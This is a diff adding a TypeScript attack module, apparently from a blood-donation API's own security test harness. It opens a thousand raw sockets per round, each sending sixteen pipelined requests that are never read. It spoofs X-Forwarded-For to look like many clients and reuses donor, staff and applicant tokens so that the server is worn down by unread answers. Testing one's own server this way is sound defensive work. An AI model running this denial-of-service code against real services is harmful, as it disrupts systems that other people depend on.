@@ -1,0 +1,91 @@
+import { once } from 'node:events';
+import { connect, type Socket } from 'node:net';
+import { addressOf, type Caller } from '../ask.ts';
+import type { Attack, Attacker } from './attack.ts';
+
+const CONNECTIONS = 1_000;
+const PIPELINED = 16;
+/** How long a round of connections is held open: longer than the server needs to make all answers. */
+const HELD_MS = 8_000;
+const BETWEEN_MS = 1_000;
+const LIST = '/requests/by-blood-type?limit=100';
+
+/** One round: who asks, the connections in turn, and for what. */
+interface Round {
+  readonly callers: readonly Caller[];
+  readonly path: string;
+}
+
+/** Addresses of the connections of nobody: above those of everybody with an account. */
+const NOBODY_FROM = 1 << 20;
+
+function roundsOf({ loot }: Attacker): Round[] {
+  const nobody = Array.from({ length: CONNECTIONS }, (_, index) => ({
+    address: addressOf(NOBODY_FROM + index),
+  }));
+  const ofDonors = ['/auth/export', '/auth/photo', LIST].flatMap((path) => [
+    { callers: loot.donors.slice(0, 1), path },
+    { callers: loot.donors.slice(0, 10), path },
+  ]);
+  const ofHospital = ['/requests/hospital?limit=100', `/requests/${loot.requestId}/responses`].map(
+    (path) => ({
+      callers: loot.staff,
+      path,
+    }),
+  );
+  const ofApplicants = loot.applicants.map((applicant) => ({
+    callers: [applicant],
+    path: `/hospital/documents/${applicant.documentId}`,
+  }));
+  return [
+    ...['/openapi.json', '/regions', '/push/public-key'].map((path) => ({ callers: nobody, path })),
+    ...ofDonors,
+    ...ofHospital,
+    ...ofApplicants,
+  ];
+}
+
+const head = (host: string, path: string, { token, address }: Caller): string =>
+  [
+    `GET /api${path} HTTP/1.1`,
+    `Host: ${host}`,
+    `X-Forwarded-For: ${address}`,
+    ...(token ? [`Authorization: Bearer ${token}`] : []),
+    '\r\n',
+  ].join('\r\n');
+
+/** A connection on which many calls are sent and no answer is read. */
+async function openUnread(
+  { hostname, port, host }: URL,
+  path: string,
+  caller: Caller,
+): Promise<Socket | undefined> {
+  const socket = connect({ host: hostname, port: Number(port) });
+  socket.pause();
+  socket.on('error', () => socket.destroy());
+  await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
+  if (socket.destroyed) return undefined;
+  socket.write(head(host, path, caller).repeat(PIPELINED));
+  return socket;
+}
+
+/**
+ * Reads nothing: hundreds of connections, each with 16 calls in a row whose answers stay in the server, by nobody, by
+ * one account and by ten, for one big answer after the other.
+ */
+export const readNothing: Attack = async (attacker) => {
+  const url = new URL(attacker.base);
+  const rounds = roundsOf(attacker);
+  for (let turn = 0; !attacker.isOver(); turn += 1) {
+    const { callers, path } = rounds[turn % rounds.length] as Round;
+    const sockets = await Promise.all(
+      Array.from({ length: CONNECTIONS }, (_, index) =>
+        openUnread(url, path, callers[index % callers.length] as Caller),
+      ),
+    );
+    attacker.count('calls unread', sockets.filter(Boolean).length * PIPELINED);
+    await attacker.rest(HELD_MS);
+    for (const socket of sockets) socket?.destroy();
+    await attacker.rest(BETWEEN_MS);
+  }
+};
